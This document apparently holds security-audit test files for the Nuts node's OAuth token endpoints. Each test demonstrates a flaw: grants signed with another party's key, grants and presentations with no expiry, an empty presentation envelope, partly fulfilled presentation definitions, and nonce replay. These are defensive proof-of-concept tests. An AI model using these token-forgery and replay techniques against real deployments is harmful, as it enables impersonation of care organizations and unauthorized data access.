		jwt.SubjectKey:    authorizerDID.String(),
		jwt.AudienceKey:   expectedAudience,
		jwt.IssuedAtKey:   time.Now(),
		jwt.ExpirationKey: time.Now().Add(5 * time.Second),
		purposeOfUseClaim: expectedService,
	} {
		require.NoError(t, token.Set(k, v))
	}
	headers := jws.NewHeaders()
	require.NoError(t, headers.Set(jws.KeyIDKey, attackerKeyID))
	signed, err := jwt.Sign(token, jwt.WithKey(jwa.ES256, attackerKey, jws.WithProtectedHeaders(headers)))
	require.NoError(t, err)

	response, oauthErr := testCtx.oauthService.CreateAccessToken(testCtx.audit, services.CreateAccessTokenRequest{RawJwtBearerToken: string(signed)})

	if oauthErr == nil {
		t.Fatalf("access token %q issued with sub (client) = %v, for a bearer token signed by %s", response.AccessToken, issuedClaims["sub"], attackerKeyID)
	}
	t.Logf("refused: %v", oauthErr)
}
