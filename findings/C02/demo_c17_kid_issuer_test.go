package oauth

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/auth/services"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/vcr"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC17_JwtBearerTokenSignedByKeyOfAnotherParty demonstrates that the (v1, RFC003) authorization server issues an
// access token for a JWT bearer (grant) token of which the claimed issuer (iss) is the victim's DID, while the token
// is signed with - and its kid header refers to - a key from the DID document of a completely different party (the attacker).
//
// Property: "The verification key is taken only from where the protocol says - the resolved DID document [...]" and the
// quantifier explicitly lists "kid of another party".
func TestDemoC17_JwtBearerTokenSignedByKeyOfAnotherParty(t *testing.T) {
	// the victim: requesterDID (a care organization known to the authorizer, it has a trusted NutsOrganizationCredential)
	victimDID := requesterDID

	// the attacker: any other DID on the network for which the attacker controls an assertionMethod key.
	attackerDID := did.MustParseDID("did:nuts:4ttAcKeR111111111111111111111111111111111111")
	attackerKeyID := attackerDID.String() + "#key-1"
	attackerKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NotEqual(t, victimDID.String(), attackerDID.String())

	testCtx := createContext(t)

	// The key resolver behaves exactly as the real one: the attacker's kid resolves to the attacker's public key
	// (taken from the attacker's DID document). The victim's key is never resolved, nor used.
	testCtx.keyResolver.EXPECT().ResolveKeyByID(attackerKeyID, gomock.Any(), resolver.NutsSigningKeyType).Return(attackerKey.Public(), nil).AnyTimes()
	testCtx.keyResolver.EXPECT().ResolveKey(authorizerDID, gomock.Any(), resolver.NutsSigningKeyType).Return(authorizerSigningKeyID, authorizerSigningKey, nil).AnyTimes()
	// The victim has a trusted organization credential.
	orgCredential := vc.VerifiableCredential{}
	_ = json.Unmarshal([]byte(jsonld.TestOrganizationCredential), &orgCredential)
	testCtx.nameResolver.EXPECT().Search(context.Background(), []vcr.SearchTerm{
		{IRIPath: jsonld.CredentialSubjectPath, Value: victimDID.String()},
		{IRIPath: jsonld.OrganizationNamePath, Type: vcr.NotNil},
		{IRIPath: jsonld.OrganizationCityPath, Type: vcr.NotNil},
	}, false, gomock.Any()).Return([]vc.VerifiableCredential{orgCredential}, nil).AnyTimes()
	testCtx.didResolver.EXPECT().Resolve(authorizerDID, gomock.Any()).Return(getAuthorizerDIDDocument(), nil, nil).AnyTimes()
	testCtx.serviceResolver.EXPECT().GetCompoundServiceEndpoint(authorizerDID, expectedService, services.OAuthEndpointType, true).Return(expectedAudience, nil).AnyTimes()
	testCtx.keyStore.EXPECT().Exists(testCtx.audit, authorizerSigningKeyID).Return(true, nil).AnyTimes()
	var accessTokenClaims map[string]interface{}
	testCtx.keyStore.EXPECT().SignJWT(gomock.Any(), gomock.Any(), nil, authorizerSigningKeyID).
		DoAndReturn(func(_ context.Context, claims map[string]interface{}, _ map[string]interface{}, _ string) (string, error) {
			accessTokenClaims = claims
			return "access-token-for-the-victim", nil
		}).AnyTimes()

	// Build the grant: iss = victim, but kid = the attacker's key and signed with the attacker's private key.
	grant := validContext(t)
	require.Equal(t, victimDID.String(), grant.jwtBearerToken.Issuer())
	_ = grant.jwtBearerToken.Remove(userIdentityClaim) // user identity is optional
	_ = grant.jwtBearerToken.Remove(vcClaim)           // authorization credentials are optional
	hdrs := jws.NewHeaders()
	require.NoError(t, hdrs.Set(jws.KeyIDKey, attackerKeyID))
	signed, err := jwt.Sign(grant.jwtBearerToken, jwt.WithKey(jwa.ES256, attackerKey, jws.WithProtectedHeaders(hdrs)))
	require.NoError(t, err)

	response, oauthErr := testCtx.oauthService.CreateAccessToken(testCtx.audit, services.CreateAccessTokenRequest{RawJwtBearerToken: string(signed)})

	if response != nil {
		t.Logf("access token issued: %s, sub=%v iss=%v", response.AccessToken, accessTokenClaims[jwt.SubjectKey], accessTokenClaims[jwt.IssuerKey])
	}
	assert.NotNil(t, oauthErr, "a grant with iss=%s that is signed with a key of %s must be refused", victimDID, attackerDID)
	assert.Nil(t, response, "no access token may be issued for subject %s on a grant signed by a key of %s", victimDID, attackerDID)
}
