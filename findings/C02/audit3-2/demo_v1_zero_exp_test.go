package oauth

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/auth/services"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/vcr"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"go.uber.org/mock/gomock"
)

// TestDemo_V1_BearerTokenThatNeverExpires shows that the v1 (RFC003) JWT bearer grant issues an access token for a
// JWT grant that was created a year ago and that never expires ("exp": 0), although a grant may be valid for 5 seconds.
// It is a copy of TestAuth_CreateAccessToken/"valid - without user identity", only iat and exp differ.
func TestDemo_V1_BearerTokenThatNeverExpires(t *testing.T) {
	searchTerms := []vcr.SearchTerm{
		{IRIPath: jsonld.CredentialSubjectPath, Value: requesterDID.String()},
		{IRIPath: jsonld.OrganizationNamePath, Type: vcr.NotNil},
		{IRIPath: jsonld.OrganizationCityPath, Type: vcr.NotNil},
	}
	testCredential := vc.VerifiableCredential{}
	_ = json.Unmarshal([]byte(jsonld.TestOrganizationCredential), &testCredential)

	testCtx := createContext(t)
	testCtx.keyResolver.EXPECT().ResolveKeyByID(requesterSigningKeyID, gomock.Any(), resolver.NutsSigningKeyType).Return(requesterSigningKey.Public(), nil).AnyTimes()
	testCtx.keyResolver.EXPECT().ResolveKey(authorizerDID, gomock.Any(), resolver.NutsSigningKeyType).Return(authorizerSigningKeyID, authorizerSigningKey, nil).AnyTimes()
	testCtx.nameResolver.EXPECT().Search(context.Background(), searchTerms, false, gomock.Any()).Return([]vc.VerifiableCredential{testCredential}, nil).AnyTimes()
	testCtx.didResolver.EXPECT().Resolve(authorizerDID, gomock.Any()).Return(getAuthorizerDIDDocument(), nil, nil).AnyTimes()
	testCtx.serviceResolver.EXPECT().GetCompoundServiceEndpoint(authorizerDID, expectedService, services.OAuthEndpointType, true).Return(expectedAudience, nil).AnyTimes()
	testCtx.keyStore.EXPECT().Exists(testCtx.audit, authorizerSigningKeyID).Return(true, nil).AnyTimes()
	testCtx.keyStore.EXPECT().SignJWT(gomock.Any(), gomock.Any(), nil, authorizerSigningKeyID).Return("expectedAccessToken", nil).AnyTimes()
	testCtx.verifier.EXPECT().Verify(gomock.Any(), true, true, gomock.Any()).Return(nil).AnyTimes()

	ctx := validContext(t)
	_ = ctx.jwtBearerToken.Remove(userIdentityClaim)
	_ = ctx.jwtBearerToken.Remove(jwt.NotBeforeKey)
	// created a year ago...
	_ = ctx.jwtBearerToken.Set(jwt.IssuedAtKey, time.Now().Add(-365*24*time.Hour).Unix())
	// ... and never expires
	_ = ctx.jwtBearerToken.Set(jwt.ExpirationKey, 0)
	signToken(ctx)

	response, err := testCtx.oauthService.CreateAccessToken(testCtx.audit, services.CreateAccessTokenRequest{RawJwtBearerToken: ctx.rawJwtBearerToken})

	assert.NotNil(t, err, "a JWT bearer grant that was issued a year ago and does not expire must be refused (max validity: %d seconds)", BearerTokenMaxValidity)
	assert.Nil(t, response, "no access token may be issued")
}
