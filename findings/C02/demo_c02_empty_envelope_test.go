package iam

import (
	"context"
	"net/http"
	"testing"

	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC02_S2S_EmptyEnvelope shows that the vp_token-bearer (s2s) token endpoint issues an access token for an
// assertion that contains no presentation at all (the JSON array "[]"), when the scope's presentation definition does not
// require credentials. Such a definition is supported on purpose (PresentationDefinition.CredentialsRequired(), "empty
// sign instruction"): the client is then expected to send an empty, but signed, presentation which proves control of its
// DID, is addressed to this authorization server, short-lived and carries a fresh nonce.
// With "[]" every per-presentation check (validity window, signer, audience, nonce, signature) is a loop over nothing.
// The OpenID4VP flow (handleAuthorizeResponseSubmission) refuses an envelope without presentations ("invalid vp_token").
func TestDemoC02_S2S_EmptyEnvelope(t *testing.T) {
	const requestedScope = "example-scope"
	definition, err := pe.ParsePresentationDefinition([]byte(`{"id": "pd", "input_descriptors": []}`))
	require.NoError(t, err, "definition without input descriptors is valid according to the JSON schema")
	require.False(t, definition.CredentialsRequired())

	ctx := newTestClient(t)
	ctx.policy.EXPECT().PresentationDefinitions(gomock.Any(), requestedScope).Return(pe.WalletOwnerMapping{pe.WalletOwnerOrganization: *definition}, nil).AnyTimes()
	// no expectation on ctx.vcVerifier: nothing gets verified
	requestCtx := context.WithValue(context.Background(), httpRequestContextKey{}, &http.Request{Header: http.Header{}})
	const submission = `{"id": "1", "definition_id": "pd", "descriptor_map": []}`

	resp, err := ctx.client.handleS2SAccessTokenRequest(requestCtx, "https://example.com/oauth2/anyone", issuerSubjectID, requestedScope, submission, `[]`)

	if err == nil {
		token := TokenResponse(resp.(HandleTokenRequest200JSONResponse)).AccessToken
		introspection, _ := ctx.client.introspectAccessToken(token)
		require.NotNil(t, introspection)
		t.Fatalf("access token issued (active=%v, client_id=%s, scope=%s) although no presentation was presented: no signature, no audience, no nonce, no validity window",
			introspection.Active, *introspection.ClientId, *introspection.Scope)
	}
	t.Logf("refused: %v", err)
}
