package iam

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/test"
	"github.com/nuts-foundation/nuts-node/vcr/verifier"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_S2S_PresentationThatNeverExpires shows that the vp_token bearer grant issues an access token for a
// JWT presentation that was created long ago and that never expires ("exp": 0).
//
// The only thing that is mocked away is the verification of the credentials inside the presentation (not relevant here):
// the presentation itself (signer, signature, nbf/exp/iat) is checked by the real verifier of vcr/verifier.
func TestDemo_S2S_PresentationThatNeverExpires(t *testing.T) {
	const requestedScope = "example-scope"

	var presentationDefinition pe.PresentationDefinition
	require.NoError(t, json.Unmarshal([]byte(`
{
	"input_descriptors": [
		{
			"id": "1",
			"constraints": {
				"fields": [
					{
						"path": ["$.type"],
						"filter": {"type": "string", "const": "NutsOrganizationCredential"}
			  		}
				]
		  	}
		}
	]
}`), &presentationDefinition))
	walletOwnerMapping := pe.WalletOwnerMapping{pe.WalletOwnerOrganization: presentationDefinition}
	submissionJSON := `{"id":"1","definition_id":"","descriptor_map":[{"id":"1","path":"$.verifiableCredential","format":"ldp_vc"}]}`
	verifiableCredential := test.ValidNutsOrganizationCredential(t)
	subjectDID, _ := verifiableCredential.SubjectDID()
	httpRequest := &http.Request{Header: http.Header{}}
	requestCtx := context.WithValue(context.Background(), httpRequestContextKey{}, httpRequest)
	clientID := "https://example.com/oauth2/holder"

	type testCase struct {
		name   string
		claims map[string]any
	}
	testCases := []testCase{
		{
			// created a year ago, never expires
			name: "nbf a year ago, exp 0",
			claims: map[string]any{
				jwt.NotBeforeKey:  time.Now().Add(-365 * 24 * time.Hour).Unix(),
				jwt.ExpirationKey: 0,
			},
		},
		{
			// no usable creation or expiration date at all
			name: "nbf 0, exp 0",
			claims: map[string]any{
				jwt.NotBeforeKey:  0,
				jwt.ExpirationKey: 0,
			},
		},
	}
	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			ctx := newTestClient(t)
			presentation, publicKey := test.CreateJWTPresentation(t, *subjectDID, func(token jwt.Token) {
				require.NoError(t, token.Set(jwt.AudienceKey, issuerClientID))
				for k, v := range tc.claims {
					require.NoError(t, token.Set(k, v))
				}
			}, verifiableCredential)
			t.Logf("JWT claims of the presentation: %s", jwtPayload(t, presentation.Raw()))

			// the real verifier checks the presentation: signer, signature and the time claims of the JWT
			keyResolver := resolver.NewMockKeyResolver(ctx.ctrl)
			keyResolver.EXPECT().ResolveKeyByID(subjectDID.String()+"#1", gomock.Any(), resolver.NutsSigningKeyType).Return(publicKey, nil).AnyTimes()
			realVerifier := verifier.NewVerifier(nil, nil, keyResolver, nil, nil, &revocation.StatusList2021{})
			ctx.vcVerifier.EXPECT().VerifyVP(gomock.Any(), true, true, gomock.Any()).DoAndReturn(
				func(vp vc.VerifiablePresentation, _ bool, allowUntrusted bool, validAt *time.Time) ([]vc.VerifiableCredential, error) {
					return realVerifier.VerifyVP(vp, false, allowUntrusted, validAt)
				}).AnyTimes()
			ctx.policy.EXPECT().PresentationDefinitions(gomock.Any(), requestedScope).Return(walletOwnerMapping, nil).AnyTimes()

			resp, err := ctx.client.handleS2SAccessTokenRequest(requestCtx, clientID, issuerSubjectID, requestedScope, submissionJSON, presentation.Raw())

			// "An access token is issued only when the presented verifiable presentations [...] are valid for no longer than the allowed window"
			assert.Error(t, err, "a presentation that is not limited to the allowed window (%s) must be refused", s2sMaxPresentationValidity)
			assert.Nil(t, resp, "no access token may be issued")
			if err != nil {
				return
			}

			// Consequence: the used nonce is only remembered for s2sNonceRetention (20s), so after that the very same presentation
			// (e.g. taken from a log, or by anyone who has seen it) yields an access token again - indefinitely.
			nonce, _ := extractNonce(presentation)
			require.NoError(t, ctx.client.s2sNonceStore().Delete(nonce)) // = wait for s2sNonceRetention
			resp, err = ctx.client.handleS2SAccessTokenRequest(requestCtx, clientID, issuerSubjectID, requestedScope, submissionJSON, presentation.Raw())
			assert.Error(t, err, "replay of the presentation after the nonce retention must be refused")
			assert.Nil(t, resp, "no access token may be issued for a replayed presentation")
		})
	}
}

func jwtPayload(t *testing.T, token string) string {
	parts := strings.Split(token, ".")
	require.Len(t, parts, 3)
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	require.NoError(t, err)
	var asMap map[string]any
	require.NoError(t, json.Unmarshal(payload, &asMap))
	delete(asMap, "vp")
	result, _ := json.Marshal(asMap)
	return string(result)
}
