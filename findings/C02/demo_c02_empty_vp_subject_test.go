package iam

import (
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// All presentations of one token request must be signed by the same subject. A presentation WITHOUT credentials used to
// be exempt from that comparison and its signer became the expected subject for the following presentations, so
// [VP(subject A), empty VP signed by B, VP(subject B)] was accepted.
func TestDemoC02_CredentialLessPresentationMustHaveTheSameSigner(t *testing.T) {
	subjectA := did.MustParseDID("did:example:A")
	emptyVPSignedByB, err := vc.ParseVerifiablePresentation(`{"proof":[{"verificationMethod":"did:example:B#key-1"}]}`)
	require.NoError(t, err)

	t.Run("an empty presentation signed by someone else than the earlier subject is rejected", func(t *testing.T) {
		_, err := validatePresentationSigner(*emptyVPSignedByB, subjectA)
		assert.EqualError(t, err, "not all presentations have the same credential subject ID")
	})
	t.Run("an empty presentation signed by the earlier subject is accepted", func(t *testing.T) {
		signer, err := validatePresentationSigner(*emptyVPSignedByB, did.MustParseDID("did:example:B"))
		require.NoError(t, err)
		assert.Equal(t, "did:example:B", signer.String())
	})
	t.Run("an empty presentation as first one is accepted (no earlier subject)", func(t *testing.T) {
		signer, err := validatePresentationSigner(*emptyVPSignedByB, did.DID{})
		require.NoError(t, err)
		assert.Equal(t, "did:example:B", signer.String())
	})
}
