package iam

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_IntrospectExtended_DropsClaims shows that the extended introspection endpoint (POST /internal/auth/v2/accesstoken/introspect_extended)
// does not report the credential-derived claims that were established when the access token was issued,
// while the regular introspection endpoint does.
func TestDemo_IntrospectExtended_DropsClaims(t *testing.T) {
	ctx := newTestClient(t)
	req := http.Request{Header: map[string][]string{"Content-Type": {"application/x-www-form-urlencoded"}}}
	reqCtx := context.WithValue(context.Background(), httpRequestContextKey{}, &req)
	token := AccessToken{
		Token:      "token",
		Issuer:     "https://example.com/oauth2/issuer",
		ClientId:   "https://example.com/oauth2/holder",
		Scope:      "example-scope",
		IssuedAt:   time.Now(),
		Expiration: time.Now().Add(time.Minute),
		// as established by createAccessToken() from the constraint fields (with an id) of the presentation definition
		InputDescriptorConstraintIdMap: map[string]any{
			"organization_name": "Because we care B.V.",
			"user_role":         "nurse",
		},
	}
	require.NoError(t, ctx.client.accessTokenServerStore().Put(token.Token, token))

	// regular introspection: as sent over the wire
	res, err := ctx.client.IntrospectAccessToken(reqCtx, IntrospectAccessTokenRequestObject{Body: &TokenIntrospectionRequest{Token: token.Token}})
	require.NoError(t, err)
	recorder := httptest.NewRecorder()
	require.NoError(t, res.VisitIntrospectAccessTokenResponse(recorder))
	var regular map[string]any
	require.NoError(t, json.Unmarshal(recorder.Body.Bytes(), &regular))
	t.Logf("introspect:          %s", recorder.Body.String())
	assert.Equal(t, true, regular["active"])
	assert.Equal(t, "Because we care B.V.", regular["organization_name"])
	assert.Equal(t, "nurse", regular["user_role"])

	// extended introspection: as sent over the wire
	resExtended, err := ctx.client.IntrospectAccessTokenExtended(reqCtx, IntrospectAccessTokenExtendedRequestObject{Body: &TokenIntrospectionRequest{Token: token.Token}})
	require.NoError(t, err)
	recorder = httptest.NewRecorder()
	require.NoError(t, resExtended.VisitIntrospectAccessTokenExtendedResponse(recorder))
	var extended map[string]any
	require.NoError(t, json.Unmarshal(recorder.Body.Bytes(), &extended))
	t.Logf("introspect_extended: %s", recorder.Body.String())
	assert.Equal(t, true, extended["active"])
	// "Introspection reports a token [...] with issuer, client, scope, key binding and claim values exactly those established at issuance"
	assert.Equal(t, "Because we care B.V.", extended["organization_name"], "claim established at issuance is missing from the extended introspection response")
	assert.Equal(t, "nurse", extended["user_role"], "claim established at issuance is missing from the extended introspection response")
	for key, value := range regular {
		assert.Equal(t, value, extended[key], "extended introspection must report the same value as regular introspection for: %s", key)
	}
}
