package iam

import (
	"context"
	"encoding/json"
	"net/http"
	"testing"

	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/nuts-foundation/nuts-node/vcr/test"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC02_S2S_PartialPresentationDefinitions shows that the vp_token-bearer (s2s) token endpoint issues an access
// token for a scope of which only ONE of the configured presentation definitions has been satisfied.
//
// The policy maps the scope to 2 presentation definitions (wallet owner types "organization" and "user"), which is the
// documented way to require an organization credential AND a user credential. The authorization-code flow only issues
// a code after both have been fulfilled (PEXConsumer.next() == nil), but handleS2SAccessTokenRequest calls
// PEXConsumer.fulfill() for the single submission it received and then goes straight to createAccessToken().
func TestDemoC02_S2S_PartialPresentationDefinitions(t *testing.T) {
	const requestedScope = "example-scope"

	var organizationPD, userPD pe.PresentationDefinition
	require.NoError(t, json.Unmarshal([]byte(`
{
	"id": "pd_organization",
	"format": {"ldp_vc": {"proof_type": ["JsonWebSignature2020"]}},
	"input_descriptors": [{
		"id": "org_credential",
		"constraints": {"fields": [
			{"path": ["$.type"], "filter": {"type": "string", "const": "NutsOrganizationCredential"}},
			{"id": "organization_name", "path": ["$.credentialSubject.organization.name"], "filter": {"type": "string"}}
		]}
	}]
}`), &organizationPD))
	require.NoError(t, json.Unmarshal([]byte(`
{
	"id": "pd_user",
	"format": {"ldp_vc": {"proof_type": ["JsonWebSignature2020"]}},
	"input_descriptors": [{
		"id": "employee_credential",
		"constraints": {"fields": [
			{"path": ["$.type"], "filter": {"type": "string", "const": "NutsEmployeeCredential"}},
			{"id": "employee_role", "path": ["$.credentialSubject.roleName"], "filter": {"type": "string"}}
		]}
	}]
}`), &userPD))
	// the scope requires BOTH definitions
	walletOwnerMapping := pe.WalletOwnerMapping{
		pe.WalletOwnerOrganization: organizationPD,
		pe.WalletOwnerUser:         userPD,
	}

	dpopHeader, _, _ := newSignedTestDPoP()
	httpRequest := &http.Request{Header: http.Header{"Dpop": []string{dpopHeader.String()}}}
	requestCtx := context.WithValue(context.Background(), httpRequestContextKey{}, httpRequest)
	const clientID = "https://example.com/oauth2/holder"
	proofVisitor := test.LDProofVisitor(func(proof *proof.LDProof) {
		proof.Domain = &issuerClientID
	})

	assertNoToken := func(t *testing.T, ctx *testCtx, resp HandleTokenRequestResponseObject, err error) {
		if err != nil {
			// this is what the property demands
			return
		}
		tokenResponse := TokenResponse(resp.(HandleTokenRequest200JSONResponse))
		// show what the resource server gets to see
		introspection, introspectErr := ctx.client.introspectAccessToken(tokenResponse.AccessToken)
		require.NoError(t, introspectErr)
		require.NotNil(t, introspection)
		introspectionJSON, _ := json.Marshal(struct {
			Active bool           `json:"active"`
			Scope  *string        `json:"scope"`
			Claims map[string]any `json:"claims"`
		}{introspection.Active, introspection.Scope, introspection.AdditionalProperties})
		t.Errorf("access token for scope %q was issued although only 1 of the %d presentation definitions "+
			"required for the scope was fulfilled (fulfilled: %v); introspection: %s",
			requestedScope, len(walletOwnerMapping), keysOf(*introspection.PresentationSubmissions), introspectionJSON)
	}

	t.Run("only the organization definition is satisfied (user definition skipped)", func(t *testing.T) {
		ctx := newTestClient(t)
		organizationCredential := test.ValidNutsOrganizationCredential(t)
		subjectDID, _ := organizationCredential.SubjectDID()
		presentation := test.CreateJSONLDPresentation(t, *subjectDID, proofVisitor, organizationCredential)
		submission := `{"id": "1", "definition_id": "pd_organization", "descriptor_map": [{"id": "org_credential", "path": "$.verifiableCredential", "format": "ldp_vc"}]}`
		ctx.vcVerifier.EXPECT().VerifyVP(presentation, true, true, gomock.Any()).Return(presentation.VerifiableCredential, nil).AnyTimes()
		ctx.policy.EXPECT().PresentationDefinitions(gomock.Any(), requestedScope).Return(walletOwnerMapping, nil)

		resp, err := ctx.client.handleS2SAccessTokenRequest(requestCtx, clientID, issuerSubjectID, requestedScope, submission, presentation.Raw())

		assertNoToken(t, ctx, resp, err)
	})
	t.Run("only the user definition is satisfied (organization definition skipped)", func(t *testing.T) {
		ctx := newTestClient(t)
		subjectDID := holderDID
		// a credential anybody can make for himself
		employeeCredential := vc.VerifiableCredential{}
		require.NoError(t, json.Unmarshal([]byte(`{
			"@context": ["https://www.w3.org/2018/credentials/v1", "https://nuts.nl/credentials/v1"],
			"id": "`+subjectDID.String()+`#1",
			"type": ["VerifiableCredential", "NutsEmployeeCredential"],
			"issuer": "`+subjectDID.String()+`",
			"issuanceDate": "2024-01-01T00:00:00Z",
			"credentialSubject": {"id": "`+subjectDID.String()+`", "roleName": "Administrator"}
		}`), &employeeCredential))
		presentation := test.CreateJSONLDPresentation(t, subjectDID, proofVisitor, employeeCredential)
		submission := `{"id": "1", "definition_id": "pd_user", "descriptor_map": [{"id": "employee_credential", "path": "$.verifiableCredential", "format": "ldp_vc"}]}`
		ctx.vcVerifier.EXPECT().VerifyVP(presentation, true, true, gomock.Any()).Return(presentation.VerifiableCredential, nil).AnyTimes()
		ctx.policy.EXPECT().PresentationDefinitions(gomock.Any(), requestedScope).Return(walletOwnerMapping, nil)

		resp, err := ctx.client.handleS2SAccessTokenRequest(requestCtx, clientID, issuerSubjectID, requestedScope, submission, presentation.Raw())

		assertNoToken(t, ctx, resp, err)
	})
	t.Run("control: authorization-code flow does not consider the same state complete", func(t *testing.T) {
		// the same PEXConsumer the s2s flow uses, with 1 of 2 definitions fulfilled: the authorization-code flow
		// (handleAuthorizeResponseSubmission) only issues the code when next() returns nil.
		organizationCredential := test.ValidNutsOrganizationCredential(t)
		subjectDID, _ := organizationCredential.SubjectDID()
		presentation := test.CreateJSONLDPresentation(t, *subjectDID, proofVisitor, organizationCredential)
		envelope, err := pe.ParseEnvelope([]byte(presentation.Raw()))
		require.NoError(t, err)
		submission, err := pe.ParsePresentationSubmission([]byte(`{"id": "1", "definition_id": "pd_organization", "descriptor_map": [{"id": "org_credential", "path": "$.verifiableCredential", "format": "ldp_vc"}]}`))
		require.NoError(t, err)
		consumer := newPEXConsumer(walletOwnerMapping)
		require.NoError(t, consumer.fulfill(*submission, *envelope))

		walletOwnerType, _ := consumer.next()

		require.NotNil(t, walletOwnerType, "authorization-code flow would still ask for another presentation")
		assert.Equal(t, pe.WalletOwnerUser, *walletOwnerType)
	})
}

func keysOf[V any](m map[string]V) []string {
	var result []string
	for k := range m {
		result = append(result, k)
	}
	return result
}
