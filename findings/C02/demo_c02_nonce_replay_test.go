package iam

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"net/http"
	"path"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwk"
	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	cryptoNuts "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vcr/holder"
	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/nuts-foundation/nuts-node/vcr/trust"
	"github.com/nuts-foundation/nuts-node/vcr/verifier"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC02_S2S_NonceReplayAfterNonceExpiry shows that the very same JSON-LD presentation (same nonce) yields an access
// token twice.
//
// The used-nonce store keeps a nonce for s2sMaxPresentationValidity+s2sMaxClockSkew = 10 seconds after its first use.
// The REAL verifier (vcr/verifier, maxSkew = 5s) accepts a JSON-LD presentation from created-5s until expires+5s, so for
// up to validity + 2*skew = 15 seconds. A presentation of a client of which the clock is ahead (within the allowed
// skew) is therefore still valid when the record of its nonce has been dropped.
//
// Everything in this test is real (in-memory session store, verifier, LD-proof signature), only the DID/key resolution
// and the (empty) revocation store are mocks. It takes 10 seconds because it has to outwait the nonce store TTL.
func TestDemoC02_S2S_NonceReplayAfterNonceExpiry(t *testing.T) {
	const requestedScope = "example-scope"
	const clientID = "https://example.com/oauth2/holder"
	ctx := newTestClient(t)

	// the client's key and DID
	privateKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NoError(t, err)
	kid := holderDID.String() + "#1"
	privateJWK, err := jwk.FromRaw(privateKey)
	require.NoError(t, err)
	require.NoError(t, privateJWK.Set(jwk.KeyIDKey, kid))
	keyResolver := resolver.NewMockKeyResolver(ctx.ctrl)
	keyResolver.EXPECT().ResolveKey(holderDID, gomock.Any(), resolver.NutsSigningKeyType).Return(kid, privateKey.Public(), nil).AnyTimes()
	keyResolver.EXPECT().ResolveKeyByID(kid, gomock.Any(), resolver.NutsSigningKeyType).Return(privateKey.Public(), nil).AnyTimes()

	// a REAL verifier
	jsonldManager := jsonld.NewTestJSONLDManager(t)
	revocationStore := verifier.NewMockStore(ctx.ctrl)
	revocationStore.EXPECT().GetRevocations(gomock.Any()).Return(nil, verifier.ErrNotFound).AnyTimes()
	realVerifier := verifier.NewVerifier(revocationStore, resolver.NewMockDIDResolver(ctx.ctrl), keyResolver, jsonldManager,
		trust.NewConfig(path.Join(io.TestDirectory(t), "trust.yaml")), revocation.NewStatusList2021(nil, nil, ""))
	ctx.vcVerifier.EXPECT().VerifyVP(gomock.Any(), true, true, gomock.Any()).DoAndReturn(realVerifier.VerifyVP).AnyTimes()

	// scope requires a (self-attested) credential
	var presentationDefinition pe.PresentationDefinition
	require.NoError(t, json.Unmarshal([]byte(`
{
	"id": "pd",
	"format": {"ldp_vc": {"proof_type": ["JsonWebSignature2020"]}},
	"input_descriptors": [{
		"id": "1",
		"constraints": {"fields": [{"path": ["$.type"], "filter": {"type": "string", "const": "NutsEmployeeCredential"}}]}
	}]
}`), &presentationDefinition))
	ctx.policy.EXPECT().PresentationDefinitions(gomock.Any(), requestedScope).Return(pe.WalletOwnerMapping{pe.WalletOwnerOrganization: presentationDefinition}, nil).AnyTimes()
	const submission = `{"id": "1", "definition_id": "pd", "descriptor_map": [{"id": "1", "path": "$.verifiableCredential", "format": "ldp_vc"}]}`

	credential := vc.VerifiableCredential{}
